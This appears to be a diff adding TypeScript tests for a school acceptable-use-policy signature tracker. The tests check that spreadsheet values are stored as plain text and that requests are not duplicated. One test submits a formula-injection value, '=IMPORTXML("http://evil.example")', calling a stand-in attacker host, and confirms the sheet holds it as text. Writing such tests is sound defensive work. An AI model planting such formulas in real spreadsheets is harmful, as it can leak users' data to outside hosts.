@@ -1,0 +1,59 @@
+import { join } from 'node:path';
+import { readRoster, readTemplate } from '../../emulator/cli/inputs';
+import { setUpSchool } from '../../emulator/cli/scenario';
+import { Execution } from '../../emulator/core/execution';
+import { createSpreadsheetApp } from '../../emulator/services/spreadsheet';
+import { fromSheet } from '../../src/core/safe';
+import { rowOf, SAMPLES, signatures } from './support';
+
+const ZOE = 'zoe.lukasiewicz@school.example';
+
+describe('the tracking sheet keeps what it is given', () => {
+  it('text that looks like a formula stays text, even when other rows are rewritten around it', async () => {
+    const template = await readTemplate(join(SAMPLES, 'aup-template.txt'));
+    const roster = readRoster(join(SAMPLES, 'roster.csv'));
+    const school = setUpSchool({
+      template,
+      templateName: 'AUP',
+      roster,
+      schoolName: 'Oakfield Primary School',
+    });
+    const zoe = school.host.as(ZOE);
+    zoe.openHomepage('GMAIL');
+    zoe.click('Sign', { consent: ['agree'], typedName: 'Zoë Łukasiewicz' });
+    const head = school.host.as('head@school.example');
+    head.openHomepage('GMAIL');
+    const request = head.actionOf('Approve Zoë Łukasiewicz')?.parameters.requestId ?? '';
+    head.click('Approve Zoë Łukasiewicz', {
+      [`permissions_${request}`]: '=IMPORTXML("http://evil.example")',
+    });
+    school.host.advanceTo(new Date('2026-09-04T10:00:00Z'));
+    expect(signatures(school).filter((r) => r['Reminders Sent'] === 1).length).toBeGreaterThan(5);
+    expect(fromSheet(String(rowOf(school, ZOE).Permissions))).toBe('=IMPORTXML("http://evil.example")');
+    school.host.advanceTo(new Date('2026-09-08T10:00:00Z'));
+    expect(fromSheet(String(rowOf(school, ZOE).Permissions))).toBe('=IMPORTXML("http://evil.example")');
+    const exec = new Execution(school.host.ws, 'editor', 'bm@school.example', 'bm@school.example');
+    const sheet = createSpreadsheetApp(exec)
+      .openById(school.config.trackingSpreadsheetId)
+      .getSheetByName('Signatures')!;
+    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
+  });
+
+  it('a policy version that looks like a number stays text and never duplicates requests', async () => {
+    const template = await readTemplate(join(SAMPLES, 'aup-template.txt'));
+    const roster = readRoster(join(SAMPLES, 'roster.csv'));
+    const school = setUpSchool({
+      template,
+      templateName: 'AUP',
+      roster,
+      schoolName: 'Oakfield',
+      policyVersion: '2.0',
+    });
+    const bm = school.host.as('bm@school.example');
+    bm.openHomepage('GMAIL');
+    expect(bm.click('Send invitations').notification).toMatch(/^Invited 0 \(0 new requests\)/);
+    expect(signatures(school).map((r) => r['Policy Version'])).toEqual(Array(10).fill('2.0'));
+    const home = JSON.stringify(school.host.as(ZOE).openHomepage('GMAIL').card);
+    expect(home).toContain('"Sign"');
+  });
+});
